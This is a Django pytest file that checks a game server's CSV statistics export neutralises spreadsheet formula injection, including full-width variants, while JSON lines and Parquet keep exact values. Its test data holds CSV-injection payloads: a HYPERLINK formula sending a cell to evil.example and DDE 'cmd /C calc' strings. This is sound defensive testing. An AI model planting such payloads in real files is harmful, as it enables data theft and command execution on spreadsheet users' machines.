"""CSV exports are opened in spreadsheets: a text cell that starts a formula (= + - @, a tab, a carriage return)
is written with a leading single quote (OWASP's CSV injection advice), judged after NFKC normalisation (a
full-width ＝ is an = to a spreadsheet), in the API's export and in
`export_rounds` alike. Reading the file back removes the quote, so the round trip still equals the live
numbers; JSON lines and Parquet keep the exact values."""

from __future__ import annotations

import csv
import io
import unicodedata
import zipfile
from pathlib import Path

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.test import Client
from hypothesis import example, given
from hypothesis import strategies as st

from gameserver.games.models import Player, Round
from gameserver.panoramas.models import PanoramaSet
from gameserver.panoramas.services import panorama_set_import
from gameserver.stats.columns import COLUMNS
from gameserver.stats.exports import csv_cell_neutralise, csv_cell_restore, export_read
from gameserver.stats.selectors import benchmark_from_rows, round_rows
from gameserver.stats.simulation import rounds_simulate

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Full-width and small forms (＝ ＋ ﹣ ＠) are the ASCII ones once a spreadsheet normalises them (NFKC).
HOSTILE_NAMES = [
    '=HYPERLINK("//evil.example/?"&A2,"x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "plain",
    "\uff1d1+1",
    "\uff0bcmd|' /C calc'!A0",
    "\ufe63SUM(1)",
    "\uff20SUM(1)",
]
TEXT = {column.name for column in COLUMNS if column.kind in ("str", "datetime")}

pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture
def hostile(synthetic_test: Path, model_version) -> list[dict[str, object]]:
    """Players named to run formulas, a set whose licence and attribution do too, an id that starts with '-';
    the live rows."""
    panorama_set = PanoramaSet.objects.get(
        pk=panorama_set_import(
            manifest_path=synthetic_test,
            name="hostile",
            licence="@SUM(1+1)*cmd|' /C calc'!A0",
            attribution='=HYPERLINK("//evil.example/?"&A2,"credit")',
        ).set_id
    )
    rounds_simulate(panorama_set=panorama_set, rounds=1, skills_km=[500.0] * len(HOSTILE_NAMES), seed=4)
    for seat, name in zip(Player.objects.order_by("pk"), HOSTILE_NAMES, strict=True):
        Player.objects.filter(pk=seat.pk).update(name=name)  # as stored: an admin could have set it
    Round.objects.filter(pk=Round.objects.earliest("pk").pk).update(public_id="-starts-with-a-dash")
    rows = round_rows()
    assert sorted(str(row["player_name"]) for row in rows) == sorted(HOSTILE_NAMES)
    return rows


def assert_no_cell_starts_a_formula(data: str) -> None:
    table = list(csv.DictReader(io.StringIO(data, newline="")))
    assert table
    for row in table:
        for name, cell in row.items():
            if name in TEXT:
                assert not unicodedata.normalize("NFKC", cell).startswith(FORMULA_STARTS), (name, cell)
            elif cell:  # numbers stay numbers (a negative one included): they cannot hold a formula
                assert cell in ("True", "False") or float(cell) == float(cell), (name, cell)


def test_export_rounds_csv_starts_no_formula_and_reads_back_exactly(hostile, tmp_path):
    out = tmp_path / "rounds.csv"
    call_command("export_rounds", fmt="csv", out=str(out))
    assert_no_cell_starts_a_formula(out.read_text())
    read = export_read(path=out)
    assert [row["player_name"] for row in read] == [row["player_name"] for row in hostile]
    for name in TEXT:
        assert [row[name] for row in read] == ["" if row[name] is None else row[name] for row in hostile], name
    assert benchmark_from_rows(rows=read) == benchmark_from_rows(rows=hostile)


def test_the_api_csv_export_starts_no_formula(hostile):
    researcher = Client()
    researcher.force_login(User.objects.create_user("staff", password="pw", is_staff=True))
    response = researcher.get("/api/stats/export?format=csv")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as bundle:
        [rows] = [name for name in bundle.namelist() if name.endswith(".csv")]
        assert_no_cell_starts_a_formula(bundle.read(rows).decode())


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_jsonl_and_parquet_keep_the_exact_values(fmt, hostile, tmp_path):
    out = tmp_path / f"rounds.{fmt}"
    call_command("export_rounds", fmt=fmt, out=str(out))
    read = export_read(path=out)
    assert [row["player_name"] for row in read] == [row["player_name"] for row in hostile]
    assert {row["panorama_attribution"] for row in read} == {'=HYPERLINK("//evil.example/?"&A2,"credit")'}
    assert "-starts-with-a-dash" in {row["round_id"] for row in read}


@given(st.text())
@example("\uff1d1+1")  # full-width '=': passed unquoted before NFKC was applied
@example("\uff0bcmd|' /C calc'!A0")
def test_any_text_cell_is_neutralised_and_restored(text: str) -> None:
    cell = csv_cell_neutralise(text)
    assert not unicodedata.normalize("NFKC", cell).startswith(FORMULA_STARTS)
    assert csv_cell_restore(cell) == text
